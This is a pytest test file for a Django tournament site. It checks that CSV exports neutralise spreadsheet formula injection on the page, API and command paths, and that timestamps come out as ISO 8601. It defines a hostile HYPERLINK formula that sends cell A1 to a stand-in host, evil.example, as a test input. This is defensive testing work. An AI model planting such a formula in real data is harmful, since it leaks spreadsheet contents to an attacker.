"""No CSV cell the site writes is read as a formula (OWASP's rule), on every export path."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from rest_framework.test import APIClient

from rulings.core.csv_cells import spreadsheet_safe, write_rows
from tests.tournaments.helpers import make_round
from tournaments.services.results import ReportedResult, match_set_result

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_string_that_starts_like_a_formula_becomes_text(start):
    assert spreadsheet_safe(f"{start}SUM(A1)") == f"'{start}SUM(A1)"


@pytest.mark.parametrize("value", [-3, 0.5, "-3", "+2", "-0.5000", "Pat", "", None, "a=b"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture
def hostile_event(event, regs, judge):
    regs[0].player.display_name = HOSTILE
    regs[0].player.save()
    round_ = make_round(event, [(regs[0], regs[1]), (regs[2], regs[3])])
    match_set_result(
        actor=judge, match_id=round_.matches.get(table=1).pk, result=ReportedResult(2, 0)
    )
    return event


@pytest.mark.django_db
@pytest.mark.parametrize("what", ["players", "matches", "standings"])
def test_every_export_path_neutralises_a_hostile_name(hostile_event, judge, client, what):
    api = APIClient()
    api.force_authenticate(judge)
    client.force_login(judge)
    out = io.StringIO()
    call_command("export_event", str(hostile_event.pk), "--what", what, stdout=out)
    bodies = {
        "page": client.get(f"/events/{hostile_event.pk}/export/{what}.csv").content.decode(),
        "api": api.get(f"/api/events/{hostile_event.pk}/export/{what}.csv").content.decode(),
        "command": out.getvalue(),
    }
    for path, body in bodies.items():
        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
        assert "'" + HOSTILE in cells, (path, body)
        assert HOSTILE not in cells, path


def test_times_are_written_in_iso_8601_with_their_offset():
    out = io.StringIO()
    when = dt.datetime(2024, 5, 4, 9, 30, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    write_rows([["when"], [when]], out)
    assert out.getvalue() == "when\n2024-05-04T09:30:00+02:00\n"
